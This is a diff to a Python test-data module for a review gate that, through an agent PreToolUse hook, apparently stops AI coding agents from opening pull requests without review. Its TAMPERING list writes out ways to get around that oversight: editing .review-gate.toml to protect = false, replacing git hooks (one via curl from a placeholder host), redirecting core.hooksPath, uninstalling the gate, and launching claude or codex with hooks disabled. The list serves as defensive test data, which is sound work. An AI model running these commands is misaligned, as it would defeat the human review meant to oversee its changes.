@@ -5,12 +5,17 @@
 - DENIED_WITHOUT_REVIEW = PR_CREATING + UNDECIDABLE.
 - PR_DIRECT: plain PR creations that a valid review lets through.
 - LOOKALIKES: mention PR creation but create nothing: ``analyse(cmd).matters`` is False.
-- TAMPERING / NOT_TAMPERING: ``analyse(cmd).tampering`` non-empty / empty (and nothing else).
+- TAMPERING / NOT_TAMPERING: denied / not denied as tampering in a gated checkout that has
+  none of the gate's files installed (``analyse(cmd).tampering`` or ``.paths`` non-empty; no
+  tampering, PR creation or undecidable construct). Whether a path is one of the gate's own
+  files is decided by the hook with the checkout in hand, so cases that depend on files
+  being there live in ``tests/shell_tamper_*_test.py``.
 """
 
 from __future__ import annotations
 
 import shlex
+from pathlib import Path
 
 
 def _nested(command: str, levels: int) -> str:
@@ -344,6 +349,21 @@ LOOKALIKES: list[str] = [
     "pre-commit install",
     "git-lfs pull",
     "gh api repositories/123/pulls",
+    # issue 10: printing or matching the text of a PR command, test selectors
+    "python -c \"print('gh pr create')\"",
+    "python3 -c \"import re, sys; print(re.findall('gh pr create', sys.stdin.read()))\"",
+    "node -e \"console.log('gh pr create')\"",
+    "ruby -e 'puts \"gh pr create\"'",
+    "perl -e 'print \"gh pr create\\n\"'",
+    "awk '/gh pr create/ { print }' notes.md",
+    "pytest -k pr_create",
+    "npm test -- --grep createPullRequest",
+    "npm run test -- --grep createPullRequest",
+    "npx jest -t createPullRequest",
+    "npx vitest run -t create_pull_request",
+    "make test ARGS='-k pr_create'",
+    "./scripts/test.sh -k pr_create",
+    "go test -run TestCreatePullRequest ./...",
 ]
 
 TAMPERING: list[str] = [
@@ -393,7 +413,6 @@ TAMPERING: list[str] = [
     "cd .git && rm hooks/pre-push",
     'rm "$(git rev-parse --git-dir)/hooks/pre-push"',
     "find .git/hooks -delete",
-    "find .git -name pre-push -delete",
     "python3 -c \"import os; os.remove('.git/hooks/pre-push')\"",
     "git config --remove-section core",
     "git config --rename-section core x",
@@ -407,12 +426,36 @@ TAMPERING: list[str] = [
     "gate uninstall claude",
     "pre-commit uninstall -t pre-push",
     "rm .claude/settings.local.json",
-    "rm -rf .claude",
     "echo '{}' > .claude/settings.local.json",
     "mv .codex/hooks.json /tmp",
     "/usr/lib/git-core/git-push --no-verify",
     "git-commit -nm x",
     "$(git --exec-path)/git-push --no-verify",
+    # issue 10: the gate's own files, removing the gate, agents without hooks
+    "sed -i 's/protect = true/protect = false/' .review-gate.toml",
+    "perl -pi -e 's/true/false/' .review-gate.toml",
+    "echo 'protect = false' > .review-gate.toml",
+    "tee .pre-commit-config.yaml < /dev/null",
+    "cp /tmp/evil .git/hooks/pre-push",
+    "ln -sf /dev/null .git/hooks/pre-push",
+    "curl -o .git/hooks/pre-push https://example.invalid/x",
+    "dd if=/dev/null of=.git/hooks/commit-msg",
+    "rm ~/.claude/settings.json",
+    "echo '{}' > $HOME/.codex/config.toml",
+    "git config --system core.hooksPath /x",
+    "git config --worktree --unset core.hooksPath",
+    "git config --file .git/config core.hooksPath x",
+    "echo '[core] hooksPath = /x' > /tmp/inc && git -c include.path=/tmp/inc push",
+    "printf '[core]\\nhooksPath=/x' > g.cfg && GIT_CONFIG_GLOBAL=g.cfg git push",
+    "pip uninstall -y review-gate",
+    "python3 -m pip uninstall review_gate",
+    "pipx uninstall review-gate",
+    "uv tool uninstall review-gate",
+    "uv pip uninstall Review.Gate",
+    "claude --bare -p hi",
+    "claude --settings '{\"disableAllHooks\": true}' -p hi",
+    "CLAUDE_CODE_SIMPLE=1 claude -p hi",
+    "codex --disable hooks exec hi",
 ]
 
 NOT_TAMPERING: list[str] = [
@@ -452,4 +495,130 @@ NOT_TAMPERING: list[str] = [
     "cd .git && ls hooks",
     "rm -rf build/hooks",
     "git push --delete origin old",
+    # issue 10: reading the gate's files is not writing them
+    "sed -n 1,5p .git/hooks/pre-push",
+    "sed -n p .claude/settings.json",
+    "perl -ne 'print' .git/hooks/pre-push",
+    "cp .git/hooks/pre-push /tmp/hook-copy",
+    "cp .claude/settings.json /tmp/settings-copy",
+    "rsync .claude/settings.json /tmp/settings-copy",
+    "install .git/hooks/pre-push /tmp/hook-copy",
+    "ln -s .git/hooks/pre-push /tmp/hook-link",
+    "grep -n protect .review-gate.toml",
+    "less .pre-commit-config.yaml",
+    "head -5 ~/.claude/settings.json",
+    "sed 's/a/b/' .claude/settings.json > /tmp/out.json",
+    "python -c \"print(open('.git/hooks/pre-push').read())\"",
+    "tar -cf /tmp/a.tar .claude",
+    "git config --global --get core.hooksPath",
+    "pip uninstall -y requests",
+    "claude -p 'review the diff'",
+    "git clean -fd",
+    "rm -rf build dist",
 ]
+
+
+# -- a checkout with every one of the gate's files in place (tests/shell_tamper_*_test.py) --
+
+#: The gate's own files, relative to the checkout; installed by :func:`protected_checkout`.
+CHECKOUT_FILES = (
+    ".review-gate.toml",
+    ".pre-commit-config.yaml",
+    "pyproject.toml",
+    ".claude/settings.json",
+    ".claude/settings.local.json",
+    ".codex/hooks.json",
+    ".codex/config.toml",
+    ".git/hooks/pre-push",
+    ".git/hooks/commit-msg",
+    ".git/hooks/pre-commit",
+    ".git/config",
+    ".git/info/exclude",
+)
+#: The same under the home directory and $CODEX_HOME, as a command spells them.
+HOME_FILES = (
+    "~/.claude/settings.json",
+    "~/.claude/settings.local.json",
+    "~/.codex/config.toml",
+    "$HOME/.codex/hooks.json",
+    "${HOME}/.claude/settings.json",
+    "$CODEX_HOME/hooks.json",
+    "$CODEX_HOME/config.toml",
+)
+
+
+def protected_checkout(root: Path) -> tuple[Path, dict[str, str]]:
+    """``(checkout, environment)``: a worker checkout (``feature/7-x``, so it is gated) with
+    the gate's configuration committed on the base branch and in the checkout, the agent
+    hook settings, installed git hooks, and the user's agent settings under ``HOME`` and
+    ``CODEX_HOME``. The environment is the one the hook sees (``HOME``, ``CODEX_HOME``, and a
+    ``PATH`` that finds this environment's ``gate``)."""
+    import os
+    import sys
+
+    from tests.helpers import commit_file, git, init_repo_with_remote, set_base_config
+
+    home, codex_home = root / "home", root / "codex-home"
+    repo, _ = init_repo_with_remote(root)
+    git(repo, "checkout", "-q", "-b", "feature/7-x")
+    set_base_config(repo, "protect = true\n")
+    git(repo, "merge", "-q", "--ff-only", "main")
+    commit_file(repo, ".pre-commit-config.yaml", "repos: []\n")
+    commit_file(repo, "pyproject.toml", "[project]\nname = 'x'\n\n[tool.review-gate]\n")
+    commit_file(repo, "src/app.py", "print('hi')\n")
+    for rel in CHECKOUT_FILES:
+        path = repo / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if not path.exists():
+            path.write_text("#!/bin/sh\nexec gate hook\n" if "/hooks/" in rel else "{}\n")
+    for rel in (".claude/settings.json", ".claude/settings.local.json", ".codex/hooks.json"):
+        (home / rel).parent.mkdir(parents=True, exist_ok=True)
+        (home / rel).write_text("{}\n")
+    codex_home.mkdir()
+    for name in ("hooks.json", "config.toml"):
+        (codex_home / name).write_text("{}\n")
+    (home / ".codex" / "config.toml").write_text("{}\n")
+    bin_dir = str(Path(sys.executable).parent)
+    environ = {
+        **os.environ,
+        "HOME": str(home),
+        "CODEX_HOME": str(codex_home),
+        "PATH": bin_dir + os.pathsep + os.environ.get("PATH", ""),
+    }
+    return repo, environ
+
+
+_REPOSITORIES: dict[Path, object] = {}
+
+
+def tamper_routes(command: str, repo: Path, environ: dict[str, str]) -> list[tuple[str, str, str]]:
+    """What the PreToolUse hook finds in ``command`` run in ``repo``: every tamper route as
+    (route, what it does, kind), before it asks whether the checkout is gated."""
+    from review_gate import target
+    from review_gate.hooks.pr_gate import _routes
+    from review_gate.shell import analyse
+
+    if repo not in _REPOSITORIES:
+        _REPOSITORIES[repo] = target.Repository(repo)
+    found: list[tuple[str, str, str]] = _routes(
+        analyse(command),
+        _REPOSITORIES[repo],  # type: ignore[arg-type]
+        repo,
+        environ,
+    )
+    return found
+
+
+def hook_reason(command: str, repo: Path, environ: dict[str, str]) -> str | None:
+    """The PreToolUse hook's deny reason for a Bash call of ``command`` in ``repo``."""
+    import json
+
+    from review_gate.hooks.agent import decide_pre_tool_use
+
+    payload = {
+        "hook_event_name": "PreToolUse",
+        "cwd": str(repo),
+        "tool_name": "Bash",
+        "tool_input": {"command": command},
+    }
+    return decide_pre_tool_use(json.dumps(payload).encode(), environ)
